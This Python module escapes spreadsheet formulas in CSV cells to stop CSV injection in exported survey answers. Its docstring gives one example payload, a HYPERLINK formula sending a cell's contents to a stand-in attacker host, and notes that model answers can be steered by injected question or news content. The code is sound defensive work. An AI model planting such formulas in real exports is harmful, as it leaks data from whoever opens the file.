"""Neutralising spreadsheet formulas in CSV cells (CWE-1236, "CSV injection").

A survey's answers are model output, steerable by question files and news
content: an answer such as `=HYPERLINK("http://evil.example/?leak="&A2,"x")`
would run as a live formula when the CSV is opened in Excel, LibreOffice or
Sheets. Following OWASP's advice, a text cell starting with `=`, `+`, `-`, `@`,
a tab or a carriage return gets a leading `'`, which spreadsheets show as text.
Numbers are left alone (a negative valence stays a number).
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """`value` with a leading `'` when it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralised(records: Iterable[dict[str, Any]]) -> list[dict[str, Any]]:
    """Every record with each of its text cells neutralised."""
    return [{name: neutralise(value) for name, value in record.items()} for record in records]
